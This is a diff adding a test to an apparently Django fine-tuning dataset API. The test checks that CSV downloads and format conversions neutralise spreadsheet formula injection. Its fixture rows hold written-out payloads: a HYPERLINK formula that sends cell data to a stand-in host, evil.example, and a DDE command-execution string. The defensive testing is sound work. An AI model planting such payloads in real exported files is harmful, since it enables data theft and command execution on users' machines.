@@ -148,3 +148,34 @@ def test_a_page_of_lists_costs_a_fixed_number_of_queries(api, user, base_model, 
                 "/api/v1/finetune/deployments"):
         with django_assert_max_num_queries(12):
             assert len(api.get(url).json()["results"]) == 12, url
+
+
+def test_csv_downloads_and_conversions_do_not_carry_spreadsheet_formulas(api, user, base_model):
+    """Cells starting with = + - @ (and tab or CR) become text in a spreadsheet (OWASP: a leading
+    quote); JSON, JSONL and Parquet keep them exact."""
+    import csv
+    import io
+    import json
+
+    from tests.factories import alpaca_upload
+
+    hostile = [{"instruction": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "input": "", "output": "@SUM(1+1)"},
+               {"instruction": "Tabbed", "input": "", "output": "-2+3"},
+               {"instruction": "+cmd|' /C calc'!A0", "input": "", "output": "\tindented"},
+               {"instruction": "plain", "input": "", "output": "safe text"}]
+    dataset = make_ready_dataset(user, hostile)
+    r = api.get(f"/api/v1/finetune/datasets/{dataset.pk}/download", {"format": "alpaca", "file_type": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode() if r.streaming else r.content.decode())))
+    cells = [v for row in rows for v in row.values() if v]
+    assert rows[0]["instruction"] == "'" + hostile[0]["instruction"] and rows[0]["output"] == "'@SUM(1+1)"
+    assert rows[1]["output"] == "'-2+3" and rows[2]["instruction"].startswith("'+cmd")
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
+    assert rows[3]["output"] == "safe text"
+    r = api.get(f"/api/v1/finetune/datasets/{dataset.pk}/download", {"format": "alpaca", "file_type": "jsonl"})
+    body = b"".join(r.streaming_content) if r.streaming else r.content
+    assert [json.loads(line)["instruction"] for line in body.decode().splitlines()][0] == hostile[0]["instruction"]
+    converted = api.post("/api/v1/finetune/datasets/convert", {"file": alpaca_upload(hostile), "to_format": "alpaca",
+                                                               "file_type": "csv"}, format="multipart")
+    content = b"".join(converted.streaming_content) if converted.streaming else converted.content
+    first = next(csv.DictReader(io.StringIO(content.decode())))
+    assert first["instruction"].startswith("'=HYPERLINK")
